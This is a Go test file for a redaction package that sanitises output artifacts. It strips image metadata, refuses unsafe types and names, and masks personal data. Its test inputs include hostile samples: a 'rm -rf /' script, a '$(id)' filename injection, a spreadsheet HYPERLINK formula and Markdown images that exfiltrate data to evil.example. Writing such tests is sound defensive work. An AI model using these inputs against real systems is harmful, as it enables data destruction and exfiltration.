package redact

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
)

// pngChunk encodes one PNG chunk.
func pngChunk(typ string, data []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	b = append(b, typ...)
	b = append(b, data...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

// withChunkBeforeIEND inserts a chunk before a PNG's IEND chunk.
func withChunkBeforeIEND(p []byte, chunk []byte) []byte {
	k := len(p) - 12
	out := append([]byte{}, p[:k]...)
	out = append(out, chunk...)
	return append(out, p[k:]...)
}

func refusalCode(err error) string {
	var re *RefusalError
	if errors.As(err, &re) {
		return re.Code
	}
	return ""
}

func TestArtifactImages(t *testing.T) {
	chartPNG := readTestdata(t, "chart.png")
	chartJPG := readTestdata(t, "chart.jpg")
	s := allOn(t)

	out, typ, err := s.Artifact("profit_margin_by_region.png", chartPNG)
	if err != nil || typ != TypePNG {
		t.Fatalf("matplotlib PNG: %v %q", err, typ)
	}
	if bytes.Contains(out, []byte("tEXt")) || len(s.Report().Warnings) != 0 {
		t.Errorf("Software chunk kept, or warned: %q", s.Report().Warnings)
	}
	if _, err := png.Decode(bytes.NewReader(out)); err != nil {
		t.Errorf("cleaned PNG does not decode: %v", err)
	}

	// Data smuggled in a text chunk and after IEND is removed, with warnings.
	smuggled := withChunkBeforeIEND(chartPNG, pngChunk("tEXt", []byte("Comment\x00alice@example.com,13800138000")))
	smuggled = append(smuggled, []byte("PK\x03\x04 region,email\n华东,bob@example.com\n")...)
	out, _, err = s.Artifact("chart2.png", smuggled)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(out, []byte("example.com")) || bytes.Contains(out, []byte("PK")) {
		t.Error("smuggled data survived")
	}
	w := strings.Join(s.Report().Warnings, "\n")
	if !strings.Contains(w, `"chart2.png": 1 metadata chunks removed`) || !strings.Contains(w, "bytes after the end of the image removed") {
		t.Errorf("warnings: %s", w)
	}

	// A broken checksum, a truncated file, a huge canvas.
	bad := append([]byte{}, chartPNG...)
	bad[40] ^= 0xff
	if _, _, err := s.Artifact("bad.png", bad); refusalCode(err) != RefusedMalformed {
		t.Errorf("bad CRC: %v", err)
	}
	if _, _, err := s.Artifact("cut.png", chartPNG[:100]); refusalCode(err) != RefusedMalformed {
		t.Errorf("truncated: %v", err)
	}
	huge := append([]byte{}, chartPNG[:8]...)
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, 100000)
	binary.BigEndian.PutUint32(ihdr[4:], 100000)
	ihdr[8], ihdr[9] = 8, 6
	huge = append(huge, pngChunk("IHDR", ihdr)...)
	huge = append(huge, pngChunk("IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})...)
	huge = append(huge, pngChunk("IEND", nil)...)
	if _, _, err := s.Artifact("huge.png", huge); refusalCode(err) != RefusedSize {
		t.Errorf("huge canvas: %v", err)
	}

	// JPEG: matplotlib's passes; a comment, an EXIF segment and a trailer are removed.
	if _, typ, err := s.Artifact("chart.jpg", chartJPG); err != nil || typ != TypeJPEG {
		t.Fatalf("matplotlib JPEG: %v", err)
	}
	com := []byte{0xFF, 0xFE, 0x00, 0x13}
	com = append(com, "carol@example.com"...)
	exif := []byte{0xFF, 0xE1, 0x00, 0x0D}
	exif = append(exif, "Exif\x00\x00GPS!!"...)
	j := append(append(append([]byte{}, chartJPG[:2]...), append(com, exif...)...), chartJPG[2:]...)
	j = append(j, "trailing secret"...)
	out, _, err = s.Artifact("chart2.jpeg", j)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(out, []byte("carol")) || bytes.Contains(out, []byte("GPS")) || bytes.Contains(out, []byte("trailing")) {
		t.Error("JPEG metadata survived")
	}
	if _, err := jpeg.Decode(bytes.NewReader(out)); err != nil {
		t.Errorf("cleaned JPEG does not decode: %v", err)
	}
}

func TestArtifactTypeByContent(t *testing.T) {
	csv := []byte("region,revenue\n华东,1\n华北,2\n")
	cases := []struct {
		name    string
		content []byte
		code    string // "" = accepted
		typ     string
	}{
		{"chart.png", csv, RefusedMismatch, ""},
		{"chart.jpg", readTestdata(t, "chart.png"), RefusedMismatch, ""},
		{"data.json", csv, RefusedMismatch, ""},
		{"data.csv", []byte("a,b\nc\n"), RefusedMismatch, ""},
		{"notes.csv", []byte("region\n华东\n华北\n"), "", TypeCSV},
		{"data.csv", csv, "", TypeCSV},
		{"data", csv, "", TypeCSV},
		{"data.txt", csv, "", TypePlain},
		{"notes.md", []byte("# Result\n\nRevenue grew.\n"), "", TypeMarkdown},
		{"stats.json", []byte(`{"mean": 1.5}`), "", TypeJSON},
		{"report.txt", []byte("plain words\n"), "", TypePlain},
		{"page.html", []byte("<html><body>hi</body></html>"), RefusedName, ""},
		{"page.txt", []byte("<html><body>hi</body></html>"), RefusedType, ""},
		{"page.md", []byte("# t\n<script>alert(1)</script>\n"), RefusedType, ""},
		{"link.md", []byte("[x](javascript:alert(1))"), RefusedType, ""},
		{"x.svg", []byte("<!DOCTYPE html><svg></svg>"), RefusedType, ""},
		{"doc.txt", []byte("%PDF-1.7\n..."), RefusedType, ""},
		{"a.csv", []byte("PK\x03\x04zipdata"), RefusedType, ""},
		{"run.txt", []byte("#!/bin/sh\nrm -rf /\n"), RefusedType, ""},
		{"prog.txt", []byte("\x7fELF\x02\x01\x01"), RefusedType, ""},
		{"blob.txt", []byte("abc\x00def"), RefusedType, ""},
		{"pic.png", []byte("GIF89a..."), RefusedType, ""},
		{"model.json", []byte("\x80\x04\x95pickle"), RefusedType, ""},
		{"data.xml.txt", []byte(`<?xml version="1.0"?><root/>`), RefusedType, ""},
		{"tool.py", []byte("print(1)\n"), RefusedName, ""},
		{"run.sh", []byte("echo hi\n"), RefusedName, ""},
		{"archive.zip", []byte("PK\x03\x04"), RefusedName, ""},
	}
	for _, c := range cases {
		s := allOn(t)
		_, typ, err := s.Artifact(c.name, c.content)
		if got := refusalCode(err); got != c.code || typ != c.typ {
			t.Errorf("%s %q: code %q type %q (%v), want %q %q", c.name, c.content[:min(len(c.content), 20)], got, typ, err, c.code, c.typ)
		}
		if err != nil {
			r := s.Report()
			if r.Dropped != 1 || len(r.Warnings) != 1 || !strings.Contains(r.Warnings[0], err.Error()) {
				t.Errorf("%s: report %+v", c.name, r)
			}
			if !errors.Is(err, ErrRefused) {
				t.Errorf("%s: not ErrRefused", c.name)
			}
		}
	}
}

func TestArtifactTypesFromRules(t *testing.T) {
	s, err := New(Rules{ArtifactTypes: []string{TypePNG}, MaxArtifacts: 8, MaxArtifactBytes: 1 << 20, MaxTotalArtifactBytes: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = s.Artifact("data.csv", []byte("a,b\n1,2\n"))
	if refusalCode(err) != RefusedType || !strings.Contains(err.Error(), "CSV text artifacts are not allowed") {
		t.Errorf("CSV with only PNG allowed: %v", err)
	}
	if _, _, err := s.Artifact("chart.png", readTestdata(t, "chart.png")); err != nil {
		t.Error(err)
	}
}

func TestArtifactNames(t *testing.T) {
	ok := []string{"chart.png", "利润 by region (2024).png", "a-b_c+d.png", "noext"}
	for _, n := range ok {
		s := allOn(t)
		if _, _, err := s.Artifact(n, []byte("a,b\n1,2\n")); err != nil && refusalCode(err) != RefusedMismatch {
			t.Errorf("%q refused: %v", n, err)
		}
	}
	bad := []string{"", "../x.csv", "a/b.csv", `a\b.csv`, ".hidden.csv", "..", "x.csv ", " x.csv", "x.csv.",
		"a\x00b.csv", "a\nb.csv", "a;b.csv", "\u202egnp.csv", "a\xffb.csv", strings.Repeat("a", 130) + ".csv",
		"alice@example.com.csv", "13800138000.csv", "$(id).csv", "x.CSV.exe", "-rf.csv"}
	for _, n := range bad {
		s := allOn(t)
		_, _, err := s.Artifact(n, []byte("a,b\n1,2\n"))
		if refusalCode(err) != RefusedName {
			t.Errorf("%q: %v", n, err)
		}
		w := s.Report().Warnings
		if len(w) != 1 || strings.Contains(w[0], "alice@") || strings.Contains(w[0], "13800138000") || strings.Contains(w[0], "\x00") {
			t.Errorf("%q: warnings %q", n, w)
		}
	}
	s := allOn(t)
	if _, _, err := s.Artifact("a.csv", []byte("a,b\n1,2\n")); err != nil {
		t.Fatal(err)
	}
	if _, _, err := s.Artifact("A.csv", []byte("a,b\n1,2\n")); refusalCode(err) != RefusedName {
		t.Errorf("duplicate name: %v", err)
	}
}

func TestArtifactCaps(t *testing.T) {
	rules := Rules{ArtifactTypes: DefaultArtifactTypes, MaxArtifacts: 8, MaxArtifactBytes: 1000, MaxTotalArtifactBytes: 2500, MaxRows: 50}
	s, err := New(rules)
	if err != nil {
		t.Fatal(err)
	}
	// 10,000 small files: 8 accepted, the rest refused, the warnings bounded.
	accepted := 0
	for i := 0; i < 10000; i++ {
		_, _, err := s.Artifact(fmt.Sprintf("f%05d.txt", i), []byte("small\n"))
		if err == nil {
			accepted++
		} else if refusalCode(err) != RefusedCount {
			t.Fatalf("file %d: %v", i, err)
		}
	}
	r := s.Report()
	if accepted != 8 || r.Dropped != 9992 || len(r.Warnings) != maxWarnings+1 {
		t.Errorf("accepted %d, report dropped %d, %d warnings", accepted, r.Dropped, len(r.Warnings))
	}
	if !strings.Contains(r.Warnings[0], `artifact "f00008.txt" refused: a run may return at most 8 artifacts`) || !strings.Contains(r.Warnings[maxWarnings], "9972 more") {
		t.Errorf("warnings %q … %q", r.Warnings[0], r.Warnings[maxWarnings])
	}

	// Per-file and total caps.
	s, _ = New(rules)
	big := bytes.Repeat([]byte("word "), 300)
	if _, _, err := s.Artifact("big.txt", big); refusalCode(err) != RefusedSize {
		t.Errorf("per-file: %v", err)
	}
	var nine []byte
	for i := 0; len(nine) < 900; i++ {
		nine = append(nine, strings.Repeat("w", i%13+1)+"\n"...)
	}
	for i, want := range []string{"", "", RefusedTotal} {
		_, _, err := s.Artifact(fmt.Sprintf("p%d.txt", i), nine)
		if refusalCode(err) != want {
			t.Errorf("part %d: %v", i, err)
		}
	}
	// A zero cap allows nothing.
	z, _ := New(Rules{ArtifactTypes: DefaultArtifactTypes})
	if _, _, err := z.Artifact("a.txt", []byte("x")); refusalCode(err) != RefusedCount {
		t.Errorf("zero caps: %v", err)
	}
}

func TestArtifactCSV(t *testing.T) {
	var b strings.Builder
	b.WriteString("id,name,email,phone,card,note\n")
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&b, "%d,Name%d,user%d@example.com,138%08d,ok,\"=HYPERLINK(\"\"http://x/?\"\"&B2)\"\n", i, i, i, i)
	}
	s, err := New(Rules{ArtifactTypes: DefaultArtifactTypes, MaxArtifacts: 8, MaxArtifactBytes: 1 << 20, MaxTotalArtifactBytes: 1 << 20,
		MaxRows: 10, Masks: AllMasks, SensitiveColumns: []string{"Name"}})
	if err != nil {
		t.Fatal(err)
	}
	out, typ, err := s.Artifact("users.csv", []byte(b.String()))
	if err != nil || typ != TypeCSV {
		t.Fatal(err, typ)
	}
	lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
	if len(lines) != 11 {
		t.Fatalf("%d lines:\n%s", len(lines), out)
	}
	want := `0,[sensitive_column],[email],[phone],ok,"'=HYPERLINK(""http://x/?""&B2)"`
	if lines[0] != "id,name,email,phone,card,note" || lines[1] != want {
		t.Errorf("got\n%s\n%s\nwant\n%s", lines[0], lines[1], want)
	}
	r := s.Report()
	if r.RowsOmitted != 190 || r.Masked[MaskEmail] != 10 || r.Masked[MaskPhone] != 10 || r.Masked[MaskSensitiveColumn] != 10 {
		t.Errorf("report %+v", r)
	}
	if w := strings.Join(r.Warnings, "\n"); !strings.Contains(w, "kept the first 10 of 200 rows (190 omitted)") || !strings.Contains(w, "10 cells that a spreadsheet would run as formulas") {
		t.Errorf("warnings %s", w)
	}
	// Negative numbers are not formulas.
	if formulaStart("-1.5") || formulaStart("+3") || !formulaStart("-cmd") || !formulaStart("@SUM(A1)") {
		t.Error("formulaStart")
	}
}

func TestArtifactSensitiveValuesInCSV(t *testing.T) {
	dataset := []byte("customer,email,city\nZhang Wei,zw@corp.cn,Shanghai\nLi Na,ln@corp.cn,Beijing\n")
	values, err := SensitiveValues(dataset, []string{"customer"}, 0)
	if err != nil {
		t.Fatal(err)
	}
	s := allOn(t, values...)
	out, _, err := s.Artifact("top.csv", []byte("who,total\nZhang Wei,10\nLi Na,20\n"))
	if err != nil {
		t.Fatal(err)
	}
	if got := string(out); got != "who,total\n[sensitive_column],10\n[sensitive_column],20\n" {
		t.Errorf("got %q", got)
	}
}

func TestArtifactJSON(t *testing.T) {
	var recs []map[string]any
	for i := 0; i < 100; i++ {
		recs = append(recs, map[string]any{"email": fmt.Sprintf("u%d@example.com", i), "phone": 13800138000 + i, "v": i})
	}
	doc, _ := json.Marshal(map[string]any{"records": recs, "note": "<script>", "nested": map[string]any{"secret_key": "abcdefghijkl"}})
	s, err := New(Rules{ArtifactTypes: DefaultArtifactTypes, MaxArtifacts: 8, MaxArtifactBytes: 1 << 20, MaxTotalArtifactBytes: 1 << 20,
		MaxRows: 5, Masks: AllMasks, SensitiveColumns: []string{"SECRET_KEY"}})
	if err != nil {
		t.Fatal(err)
	}
	// "<script>" inside a JSON string is escaped by encoding/json, so the document is JSON.
	out, typ, err := s.Artifact("records.json", doc)
	if err != nil || typ != TypeJSON {
		t.Fatal(err)
	}
	var got struct {
		Records []map[string]any `json:"records"`
		Nested  map[string]any   `json:"nested"`
		Note    string           `json:"note"`
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if len(got.Records) != 5 || got.Records[0]["email"] != "[email]" || got.Records[0]["phone"] != "[phone]" || got.Records[0]["v"] != 0.0 {
		t.Errorf("records %v", got.Records)
	}
	if got.Nested["secret_key"] != "[sensitive_column]" || got.Note != "<script>" {
		t.Errorf("nested %v note %q", got.Nested, got.Note)
	}
	if bytes.Contains(out, []byte("<script>")) {
		t.Error("raw <script> in JSON output")
	}
	if r := s.Report(); r.RowsOmitted != 95 {
		t.Errorf("report %+v", r)
	}
	// Key order is kept; malformed and over-deep documents are refused.
	s2 := allOn(t)
	if out, _, err := s2.Artifact("o.json", []byte(`{"z":1,"a":[1,2],"m":null,"t":true}`)); err != nil || string(out) != `{"z":1,"a":[1,2],"m":null,"t":true}` {
		t.Errorf("order: %s %v", out, err)
	}
	deep := strings.Repeat("[", 200) + strings.Repeat("]", 200)
	if _, _, err := s2.Artifact("deep.json", []byte(deep)); refusalCode(err) != RefusedUnsafe {
		t.Errorf("deep: %v", err)
	}
}

func TestArtifactMarkdown(t *testing.T) {
	s := allOn(t)
	md := "# Report\n\nContact ops@example.com.\n\n![chart](chart.png)\n![x](https://evil.example/p?d=华东,1)\n![y]( //evil/x )\n![z](#a)\n![r][ref]\n\n[ref]: https://evil.example/q\n[local]: chart.png\n"
	out, typ, err := s.Artifact("report.md", []byte(md))
	if err != nil || typ != TypeMarkdown {
		t.Fatal(err)
	}
	want := "# Report\n\nContact [email].\n\n![chart](chart.png)\n![x](#)\n![y](#)\n![z](#a)\n![r][ref]\n\n[ref]: #\n[local]: chart.png\n"
	if string(out) != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
	if w := strings.Join(s.Report().Warnings, "\n"); !strings.Contains(w, "3 remote images removed") {
		t.Errorf("warnings %s", w)
	}
}

// TestJSONMetadataKeys: in a tool result, a sensitive column's dtype and counts stay readable
// under the named metadata keys, while its values elsewhere are masked whole (as keys too, by
// the column's values from the dataset).
func TestJSONMetadataKeys(t *testing.T) {
	s, err := New(Rules{MaxRows: 50, Masks: AllMasks, SensitiveColumns: []string{"email"}, SensitiveValues: []string{"bob"}})
	if err != nil {
		t.Fatal(err)
	}
	in := `{"dtypes":{"email":"object","n":"int64"},"missing":{"email":2},"samples":[{"email":"bob","n":1}],"value_counts":{"email":{"bob":3}}}`
	out, err := s.JSON("result", []byte(in), "dtypes", "missing")
	if err != nil {
		t.Fatal(err)
	}
	want := `{"dtypes":{"email":"object","n":"int64"},"missing":{"email":2},"samples":[{"email":"[sensitive_column]","n":1}],"value_counts":{"email":{"[sensitive_column]":"[sensitive_column]"}}}`
	if string(out) != want {
		t.Errorf("got  %s\nwant %s", out, want)
	}
	// Without metadata keys everything under the column's key is masked, as in an artifact.
	out, _ = s.JSON("result", []byte(in))
	if strings.Contains(string(out), `"email":"object"`) {
		t.Errorf("dtype kept without metadata keys: %s", out)
	}
}
